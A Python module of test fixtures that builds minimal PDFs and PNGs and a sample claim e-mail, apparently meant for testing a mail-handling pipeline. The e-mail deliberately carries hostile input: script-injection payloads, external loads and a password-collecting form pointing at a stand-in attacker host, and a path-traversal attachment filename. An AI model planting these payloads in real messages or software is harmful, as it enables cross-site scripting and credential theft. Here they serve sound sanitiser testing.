"""Small documents, made for tests: PDF files with text at known places, e-mails, pictures."""

import struct
import zlib
from collections.abc import Sequence

Text = tuple[int, int, int, str]  # x and y from the bottom left in points, size, text
A4 = (595, 842)


def make_pdf(
    pages: Sequence[Sequence[Text]], *, size: tuple[int, int] = A4, rotate: int = 0
) -> bytes:
    """Return a PDF whose pages hold these texts."""
    objects = [b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]
    parent = 2 + 2 * len(pages)
    kids = []
    for texts in pages:
        drawn = b"".join(_drawn(*text) for text in texts)
        objects.append(b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn))
        objects.append(
            b"<</Type/Page/Parent %d 0 R/Rotate %d/MediaBox[0 0 %d %d]"
            b"/Resources<</Font<</F1 1 0 R>>>>/Contents %d 0 R>>"
            % (parent, rotate, *size, len(objects))
        )
        kids.append(b"%d 0 R" % len(objects))
    objects.append(b"<</Type/Pages/Count %d/Kids[%s]>>" % (len(kids), b" ".join(kids)))
    objects.append(b"<</Type/Catalog/Pages %d 0 R>>" % parent)
    return _file(objects)


def _drawn(x: int, y: int, size: int, text: str) -> bytes:
    plain = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")
    return b"BT /F1 %d Tf %d %d Td (%s) Tj ET\n" % (size, x, y, plain)


def _file(objects: list[bytes]) -> bytes:
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (count, table)
        + b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF"
        % (count, len(objects), len(out))
    )


def make_png(wide: int = 40, high: int = 20) -> bytes:
    """Return a white picture."""
    head = struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\xff" * wide) * high)
    parts = [(b"IHDR", head), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )


def size_of_png(png: bytes) -> tuple[int, int]:
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    wide, high = struct.unpack(">II", png[16:24])
    return wide, high


MAIL = "\r\n".join(
    [
        "From: =?utf-8?q?J=C3=BCrgen?= <j@example.com>",
        "To: claims@example.com",
        "Subject: Water <script>alert(1)</script> damage",
        "Date: Sat, 31 Oct 2026 09:12:00 +0100",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=x",
        "",
        "--x",
        "Content-Type: text/html; charset=utf-8",
        "",
        '<body onload="alert(1)" style="position:fixed"><p>The <b>kitchen</b> is wet.</p>',
        '<img src="http://evil.example/pixel.gif"><script>alert(1)</script>',
        '<a href="javascript:alert(1)">here</a> <a href="https://example.com/x">there</a>',
        '<form action="http://evil.example"><input name=password></form>',
        "<iframe src=http://evil.example></iframe><style>*{display:none}</style>",
        "<link rel=stylesheet href=http://evil.example/a.css></body>",
        "--x",
        "Content-Type: application/pdf",
        'Content-Disposition: attachment; filename="../../<b>claim.pdf"',
        "Content-Transfer-Encoding: base64",
        "",
        "JVBERi0xLjQK",
        "--x--",
        "",
    ]
).encode()
